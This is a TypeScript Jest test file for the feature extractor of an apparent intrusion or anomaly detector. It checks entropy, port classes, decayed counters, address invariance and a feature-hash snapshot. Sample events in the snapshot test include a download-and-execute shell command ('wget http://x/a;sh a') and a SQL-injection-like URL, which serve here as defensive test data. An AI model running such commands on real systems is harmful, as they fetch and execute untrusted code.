import { createHash } from 'node:crypto'
import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import type { Event } from '../../schemas/generated.ts'
import { anyEvent, makeEvent } from '../../test/support/events.ts'
import type { Observation } from '../detector.ts'
import {
  FEATURE_COUNT,
  featureDocs,
  featureHash,
  featureNames,
  featureRows,
  writeFeatures,
} from './features.ts'
import { observe } from './observe.ts'
import { advance } from './state.ts'

const T0 = 1_700_000_000_000

const rowOf = (observation: Observation): Record<string, number> => {
  const row = featureRows([observation])
  return Object.fromEntries(featureNames.map((name, i) => [name, row[i] ?? Number.NaN]))
}

const first = (fields: Partial<Event>) => rowOf({ event: makeEvent(fields), before: null })

describe('features', () => {
  it('have a name of their own and a line that says what each is', () => {
    expect(new Set(featureNames).size).toBe(FEATURE_COUNT)
    for (const name of featureNames) expect(featureDocs[name]).toMatch(/\.$/)
  })

  it('tell absent from zero', () => {
    expect(first({ bytesIn: null, durationMs: null, url: null, dstPort: null })).toMatchObject({
      bytes_in: -1,
      duration: -1,
      url_length: -1,
      url_entropy: -1,
      port_class: -1,
    })
    expect(first({ bytesIn: 0, durationMs: 0, url: '', dstPort: 443 })).toMatchObject({
      bytes_in: 0,
      duration: 0,
      url_length: 0,
      url_entropy: 0,
      port_class: 0,
    })
  })

  it('describe texts by length, entropy and kinds of characters', () => {
    const row = first({ url: 'ab%%', query: 'a1', command: 'aaaa' })
    expect(row['url_length']).toBeCloseTo(Math.log(5), 5)
    expect(row['url_entropy']).toBeCloseTo(1.5, 5)
    expect(row['url_symbols']).toBe(0.5)
    expect(row['query_digits']).toBe(0.5)
    expect(row['command_entropy']).toBe(0)
  })

  it.each([
    [22, 0],
    [700, 1],
    [4444, 2],
    [60_000, 3],
    [0, 1],
    [-1, -1],
    [70_000, -1],
  ])('put port %d into class %d', (dstPort, expected) => {
    expect(first({ dstPort })['port_class']).toBe(expected)
  })

  it('read the counters just before the event, decayed to its time', () => {
    const before = advance(null, makeEvent({ time: T0 }))
    const row = rowOf({
      event: makeEvent({ time: T0 + 60_000, dstPort: 23, user: 'root', type: 'x' }),
      before,
    })
    expect(row['first_seen']).toBe(0)
    expect(row['gap']).toBeCloseTo(Math.log1p(60), 5)
    expect(row['events_fast']).toBeCloseTo(Math.log1p(0.5), 5)
    expect(row['failures_fast']).toBeCloseTo(Math.log1p(0.5), 5)
    expect(row['events_slow']).toBeCloseTo(Math.log1p(2 ** (-1 / 60)), 5)
    expect(row).toMatchObject({ new_port: 1, new_user: 0, new_type: 1 })
    expect(first({})).toMatchObject({ first_seen: 1, gap: -1, events_fast: 0, new_port: -1 })
  })

  it('never hold an address or a clock time', () => {
    const shifted = (fields: Partial<Event>, by: number) =>
      observe([makeEvent({ ...fields, time: T0 + by }), makeEvent({ ...fields, time: T0 + by + 5000 })])
    const other = { srcIp: '198.51.100.7', entity: 'ip:198.51.100.7', dstIp: '198.51.100.8', srcPort: 1 }
    expect(featureRows(shifted(other, 977_000_000))).toEqual(featureRows(shifted({}, 0)))
  })

  it('are finite for every event, and the same each time', () => {
    fc.assert(
      fc.property(fc.array(anyEvent(), { minLength: 1, maxLength: 10 }), events => {
        const rows = featureRows(observe(events))
        expect(rows.every(Number.isFinite)).toBe(true)
        expect(featureRows(observe(events))).toEqual(rows)
      }),
    )
  })

  it('write one row and nothing beside it', () => {
    const out = new Float32Array(FEATURE_COUNT + 2).fill(7)
    const observation = { event: makeEvent(), before: null }
    writeFeatures(observation, out, 1)
    expect([out[0], out.at(-1)]).toEqual([7, 7])
    expect(out.slice(1, -1)).toEqual(featureRows([observation]))
  })

  it('keep their values as long as they keep their hash', () => {
    const events = [
      makeEvent(),
      makeEvent({ time: T0 + 2_000, dstPort: 2222, user: 'admin', outcome: 'success' }),
      makeEvent({ time: T0 + 9_000, type: 'shell', category: 'command', command: 'wget http://x/a;sh a' }),
      makeEvent({ time: T0 - 500, type: 'dns', category: 'dns', transport: 'udp', query: 'a9f3.example' }),
      makeEvent({
        time: T0 + 9_500,
        category: 'web',
        url: '/?q=%27--',
        userAgent: 'curl/8',
        dstPort: 60_000,
      }),
      makeEvent({
        time: T0 + 9_900,
        category: 'file',
        fileName: 'a.elf',
        bytesIn: 0,
        bytesOut: 4096,
        packets: 9,
      }),
      makeEvent({
        time: T0 + 7_200_000,
        category: 'alert',
        sourceSeverity: 3,
        durationMs: 12.5,
        dstPort: 500,
      }),
    ]
    // Rounded, so that only a changed definition shows. When this fails, raise FEATURE_VERSION and train anew.
    const values = Array.from(featureRows(observe(events)), value => value.toFixed(4))
    const digest = createHash('sha256').update(values.join()).digest('hex')
    expect({ hash: featureHash.slice(0, 16), digest: digest.slice(0, 16) }).toEqual({
      hash: '0197ef514e56d784',
      digest: 'e8ecd8daadba4033',
    })
  })
})
